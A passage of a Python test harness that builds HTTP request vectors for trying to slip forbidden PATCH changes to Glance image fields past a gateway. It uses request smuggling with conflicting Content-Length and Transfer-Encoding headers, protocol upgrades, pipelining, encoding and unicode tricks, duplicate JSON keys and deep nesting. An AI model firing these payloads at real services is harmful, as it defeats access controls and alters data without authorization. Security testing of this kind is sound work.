add(F, "dup-host", request("PATCH", f"/v2/images/{ID}", [("Host", "other.example"), ("Content-Type", V21)], BODY21))

# -------------------------------------------------------- upgrade / pipelining / framing
F = "upgrade-pipelining"
get = request("GET", f"/v2/images/{ID}", close=False)
add(F, "pipeline-get-then-patch", get + patch21())
add(F, "pipeline-get-then-vnd-patch", get + patch21(f"/images/{ID}", [("Accept", f"{VND}v2")]))
add(F, "pipeline-allowed-then-forbidden",
    request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)], ALLOWED21, close=False) + patch21())
add(F, "h2c-upgrade-then-patch",
    request("GET", f"/v2/images/{ID}", [("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")], close=False)
    + patch21(), timeout=6.0)
add(F, "h2c-upgrade-then-vnd-patch",
    request("GET", f"/v2/images/{ID}", [("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")], close=False)
    + patch21(f"/images/{ID}", [("Accept", f"{VND}v2")]), timeout=6.0)
add(F, "websocket-upgrade-then-patch",
    request("GET", f"/v2/images/{ID}", [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")], close=False)
    + patch21(), timeout=6.0)
add(F, "patch-with-upgrade-header", patch21(headers=[("Upgrade", "h2c"), ("Connection", "Upgrade")], close=False), timeout=6.0)
add(F, "expect-100-continue", patch21(headers=[("Expect", "100-continue")]))
add(F, "prior-knowledge-h2-preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + patch21(), timeout=6.0)
# Framing: where the gateway and Glance could disagree on where a body ends.
smuggled = patch21()
add(F, "cl-and-te-smuggle", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Content-Length", "4"), ("Transfer-Encoding", "chunked")],
                                    chunked('{"a"') + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "te-chunked-smuggle-after-zero", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Transfer-Encoding", "chunked")],
                                                "0\r\n\r\n" + smuggled, content_length=False, close=False))
add(F, "get-with-body-smuggle", request("GET", f"/v2/images/{ID}", [], smuggled, close=False),
    "a forwarded GET whose body is a whole PATCH request")
add(F, "te-xchunked", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Transfer-Encoding", "xchunked")],
                              chunked("{}") + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "te-chunked-space", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Transfer-Encoding", " chunked")],
                                   chunked("{}") + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "te-identity-chunked", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Transfer-Encoding", "identity, chunked")],
                                      chunked("{}") + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "dup-cl", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Content-Length", "2"), ("Content-Length", "2")],
                         "{}" + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "cl-leading-zero", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Content-Length", "02")],
                                  "{}" + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "cl-plus", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Content-Length", "+2")],
                          "{}" + smuggled, content_length=False, close=False), timeout=6.0)
add(F, "connection-drops-cl", request("POST", "/v2/images", [("Content-Type", "application/json"), ("Connection", "Content-Length")],
                                      "{}", close=False), "gateway drops Content-Length named in Connection", effect="none", timeout=6.0)
add(F, "chunk-ext", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Transfer-Encoding", "chunked")],
                            chunked(BODY21).replace("\r\n", ";ext=1\r\n", 1), content_length=False))
add(F, "bare-lf-lines", patch21().replace("\r\n", "\n"))

# ------------------------------------------------------------------------ encoding
F = "encoding"
add(F, "content-encoding-identity", patch21(headers=[("Content-Encoding", "identity")]))
add(F, "content-encoding-IDENTITY", patch21(headers=[("Content-Encoding", "IDENTITY")]))
add(F, "content-encoding-gzip-plain-body", patch21(headers=[("Content-Encoding", "gzip")]), "Glance ignores Content-Encoding")
add(F, "content-encoding-dup", patch21(headers=[("Content-Encoding", "identity"), ("Content-Encoding", "gzip")]))
add(F, "te-gzip-chunked", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21), ("Transfer-Encoding", "gzip, chunked")],
                                  chunked(BODY21), content_length=False))
add(F, "charset-latin1", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21 + "; charset=latin-1")], BODY21))
add(F, "charset-utf16-ascii-body", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21 + "; charset=utf-16")], BODY21))
add(F, "utf8-bom", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)], "\ufeff" + BODY21))
add(F, "unicode-escape-pointer", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                         '[{"op":"replace","path":"/\\u006din_ram","value":4096}]'))
add(F, "unicode-escape-op", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                    '[{"\\u006fp":"r\\u0065place","p\\u0061th":"/min_ram","value":4096}]'))
add(F, "tilde-escape-pointer", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                       '[{"op":"replace","path":"/min~0ram","value":4096}]'), "names 'min~ram': expected inert")
add(F, "whitespace-in-pointer", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                        '[{"op":"replace","path":"/ min_ram ","value":4096}]'))
add(F, "tab-in-pointer", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                 '[{"op":"replace","path":"/\\tmin_ram","value":4096}]'))
add(F, "nbsp-in-pointer", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                  '[{"op":"replace","path":"/min_ram\\u00a0","value":4096}]'))
add(F, "fullwidth-pointer", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                    '[{"op":"replace","path":"/\\uff4din_ram","value":4096}]'), "a different name: expected inert")

# ---------------------------------------------------------------------- JSON tricks
F = "json"
jbodies = {
    "dup-path-last-forbidden": '[{"op":"replace","path":"/name","path":"/min_ram","value":4096}]',
    "dup-op": '[{"op":"test","op":"replace","path":"/min_ram","value":4096}]',
    "dup-value": '[{"op":"replace","path":"/min_ram","value":"x","value":4096}]',
    "v21-with-v20-member": DUAL,
    "v21-object-not-list": '{"op":"replace","path":"/min_ram","value":4096}',
    "visibility-public": '[{"op":"replace","path":"/visibility","value":"public"}]',
    "protected": '[{"op":"replace","path":"/protected","value":true}]',
    "os_hidden": '[{"op":"replace","path":"/os_hidden","value":true}]',
    "tags": '[{"op":"replace","path":"/tags","value":["bypass"]}]',
    "min_disk": '[{"op":"replace","path":"/min_disk","value":7}]',
    "owner": '[{"op":"replace","path":"/owner","value":"someone-else"}]',
    "os_type": '[{"op":"add","path":"/__os_type","value":"Windows"}]',
    "allowed-then-forbidden": '[{"op":"replace","path":"/name","value":"n"},{"op":"replace","path":"/min_ram","value":4096}]',
    "remove-with-value": '[{"op":"remove","path":"/min_ram","value":1}]',
    "number-float": '[{"op":"replace","path":"/min_ram","value":4096.0}]',
    "number-exp": '[{"op":"replace","path":"/min_ram","value":4.096e3}]',
    "op-upper": '[{"op":"REPLACE","path":"/min_ram","value":4096}]',
    "pointer-no-slash": '[{"op":"replace","path":"min_ram","value":4096}]',
    "pointer-upper": '[{"op":"replace","path":"/MIN_RAM","value":4096}]',
    "pointer-list": '[{"op":"replace","path":["min_ram"],"value":4096}]',
    "trailing-garbage": BODY21 + " x",
    "trailing-nul": BODY21 + "\\u0000",
    "lone-surrogate-pointer": '[{"op":"replace","path":"/min_ram\\ud800","value":4096}]',
    "nan-value": '[{"op":"replace","path":"/min_ram","value":NaN}]',
    "big-int": '[{"op":"replace","path":"/min_ram","value":4096000000000000000000}]',
    "image_id-object-attr": '[{"op":"replace","path":"/image_id","value":"00000000-0000-0000-0000-000000000000"}]',
    "extra_properties-attr": '[{"op":"replace","path":"/extra_properties","value":{}}]',
}
for label, body in jbodies.items():
    add(F, label, request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)], body))
add(F, "v20-dual-op-members", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V20)], '[{"replace":"/min_ram","value":4096,"op":"add","path":"/name"}]'))
add(F, "v20-dup-replace", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V20)], '[{"replace":"/name","replace":"/min_ram","value":4096}]'))

# -------------------------------------------------------------------------- nesting
F = "nesting"
for depth in (100, 400, 900, 950, 990, 1000, 5000):
    nested = "[" * depth + "]" * depth
    add(F, f"forbidden-plus-nested-{depth}", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                                     f'[{{"op":"replace","path":"/min_ram","value":4096}},{{"op":"add","path":"/deep","value":{nested}}}]'))
    add(F, f"nested-first-{depth}", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                             f'[{{"op":"add","path":"/deep","value":{nested}}},{{"op":"replace","path":"/min_ram","value":4096}}]'))
    add(F, f"allowed-nested-{depth}", request("PATCH", f"/v2/images/{ID}", [("Content-Type", V21)],
                                               f'[{{"op":"add","path":"/deep","value":{nested}}}]'), effect="none")



def families() -> list[str]:
    return list(dict.fromkeys(v.family for v in VECTORS))
